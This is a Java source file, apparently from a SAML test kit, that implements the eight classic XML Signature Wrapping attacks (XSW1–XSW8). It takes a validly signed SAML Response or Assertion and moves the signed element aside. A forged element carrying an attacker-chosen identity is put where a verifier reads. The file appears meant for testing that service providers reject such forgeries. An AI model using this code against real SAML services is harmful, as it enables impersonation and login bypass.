package dev.gatehouse.testkit.saml;

import javax.xml.crypto.dsig.XMLSignature;
import org.jspecify.annotations.Nullable;
import org.w3c.dom.Attr;
import org.w3c.dom.Element;
import org.w3c.dom.Node;
import org.w3c.dom.Text;

/**
 * The eight classic forms of signature wrapping (Somorovsky et al., USENIX Security 2012): the
 * signed element is moved aside and a forged one stands where the reader looks. The first two take
 * a signed Response, the others a signed Assertion.
 */
public enum Wrapping {
  /** A forged Response; its signature contains the signed one. */
  XSW1,
  /** A forged Response; the signed one stands before the signature. */
  XSW2,
  /** A forged Assertion stands before the signed one. */
  XSW3,
  /** A forged Assertion contains the signed one. */
  XSW4,
  /** A forged Assertion keeps the signature; the signed one stands at the end. */
  XSW5,
  /** A forged Assertion keeps the signature, which contains the signed one. */
  XSW6,
  /** A forged Assertion with the same ID stands in Extensions, before the signed one. */
  XSW7,
  /** A forged Assertion keeps the signature; the signed one stands in its Object. */
  XSW8;

  /** Whether it needs a signed Response instead of a signed Assertion. */
  public boolean wrapsResponse() {
    return this == XSW1 || this == XSW2;
  }

  /**
   * Wraps a validly signed Response.
   *
   * @param victim the text that the forged part has changed, such as the signed NameID
   * @param attacker what the forged part says instead
   */
  public String apply(String xml, String victim, String attacker) {
    var document = Dom.parse(xml);
    var response = document.getDocumentElement();
    if (wrapsResponse()) {
      wrapResponse(response, victim, attacker);
    } else {
      wrapAssertion(response, child(response, SamlForge.ASSERTION, "Assertion"), victim, attacker);
    }
    return Dom.text(response);
  }

  private void wrapResponse(Element response, String victim, String attacker) {
    var signature = signature(response);
    var signed = (Element) response.cloneNode(true);
    signed.removeChild(signature(signed));
    response.setAttribute("ID", "_forged-response");
    replace(response, victim, attacker);
    if (this == XSW1) {
      signature.appendChild(signed);
    } else {
      response.insertBefore(signed, signature);
    }
  }

  private void wrapAssertion(Element response, Element assertion, String victim, String attacker) {
    var unsigned = (Element) assertion.cloneNode(true);
    unsigned.removeChild(signature(unsigned));
    switch (this) {
      case XSW3 -> response.insertBefore(forged(unsigned, victim, attacker), assertion);
      case XSW4 -> {
        var forged = forged(unsigned, victim, attacker);
        response.replaceChild(forged, assertion);
        forged.appendChild(assertion);
      }
      case XSW5 -> {
        forged(assertion, victim, attacker);
        response.appendChild(unsigned);
      }
      case XSW6 -> {
        forged(assertion, victim, attacker);
        signature(assertion).appendChild(unsigned);
      }
      case XSW7 -> {
        var extensions =
            response
                .getOwnerDocument()
                .createElementNS(SamlForge.PROTOCOL, name(response, "Extensions"));
        replace(unsigned, victim, attacker);
        extensions.appendChild(unsigned);
        response.insertBefore(extensions, child(response, SamlForge.PROTOCOL, "Status"));
      }
      case XSW8 -> {
        var signature = signature(assertion);
        var object =
            response
                .getOwnerDocument()
                .createElementNS(XMLSignature.XMLNS, name(signature, "Object"));
        forged(assertion, victim, attacker);
        object.appendChild(unsigned);
        signature.appendChild(object);
      }
      case XSW1, XSW2 -> throw new IllegalStateException("wraps a Response");
    }
  }

  private static Element forged(Element assertion, String victim, String attacker) {
    assertion.setAttribute("ID", "_forged-assertion");
    replace(assertion, victim, attacker);
    return assertion;
  }

  private static Element signature(Element of) {
    return child(of, XMLSignature.XMLNS, "Signature");
  }

  private static String name(Element sibling, String localName) {
    var prefix = sibling.getPrefix();
    return prefix == null ? localName : prefix + ":" + localName;
  }

  /** The first child element of this name. */
  static Element child(Element parent, String namespace, String localName) {
    for (Node child = parent.getFirstChild(); child != null; child = child.getNextSibling()) {
      if (child instanceof Element element
          && namespace.equals(element.getNamespaceURI())
          && localName.equals(element.getLocalName())) {
        return element;
      }
    }
    throw new IllegalArgumentException(parent.getNodeName() + " has no " + localName);
  }

  /** Replaces text wherever it stands, signatures excepted. */
  private static void replace(@Nullable Node node, String victim, String attacker) {
    if (node instanceof Text text) {
      text.setData(text.getData().replace(victim, attacker));
    } else if (node instanceof Element element
        && !XMLSignature.XMLNS.equals(element.getNamespaceURI())) {
      var attributes = element.getAttributes();
      for (int i = 0; i < attributes.getLength(); i++) {
        if (attributes.item(i) instanceof Attr attribute) {
          attribute.setValue(attribute.getValue().replace(victim, attacker));
        }
      }
      for (Node child = element.getFirstChild(); child != null; child = child.getNextSibling()) {
        replace(child, victim, attacker);
      }
    }
  }
}
